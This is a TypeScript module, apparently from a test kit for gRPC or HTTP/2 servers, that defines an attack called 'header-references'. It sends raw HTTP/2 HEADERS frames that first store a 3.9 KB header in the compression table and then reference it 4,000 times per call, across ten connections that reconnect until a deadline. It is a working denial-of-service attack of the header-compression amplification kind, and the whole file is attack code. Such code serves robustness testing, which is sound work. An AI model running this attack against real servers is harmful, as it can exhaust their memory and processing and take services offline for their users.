import { setTimeout as delay } from "node:timers/promises";
import type { Attack } from "./kit/attack.ts";
import { callFields, FLAG, FRAME, frame, literal, OPENING, reference, SEND_MESSAGE } from "./kit/http2-frames.ts";
import { deadline, openSockets, send } from "./kit/sockets.ts";

const CONNECTIONS = 10;
const REFERENCES = 4_000;

export const headerReferences: Attack = {
  name: "header-references",
  what: `${CONNECTIONS} connections refer ${REFERENCES} times to one header of 3.9 KB in each call`,
  async run(target) {
    const isOver = deadline(target);
    const references = Buffer.concat(Array.from({ length: REFERENCES }, () => reference(62)));
    const first = Buffer.concat([callFields(SEND_MESSAGE), literal("x-large", "v".repeat(3_900), true)]);
    const other = Buffer.concat([callFields(SEND_MESSAGE), references]);
    const attack = async () => {
      const [socket] = await openSockets(target.grpcPort, 1);
      if (socket === undefined) return;
      socket.resume();
      await send(target, socket, Buffer.concat([OPENING, frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, first)]));
      for (let stream = 3; stream < 1_000_000 && !isOver(); stream += 2) {
        if (!(await send(target, socket, frame(FRAME.HEADERS, FLAG.END_HEADERS, stream, other)))) break;
      }
      socket.destroy();
    };
    // A connection that is closed is opened again.
    const attackAgain = async () => {
      while (!isOver()) {
        await attack();
        await delay(10);
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, attackAgain));
  },
};
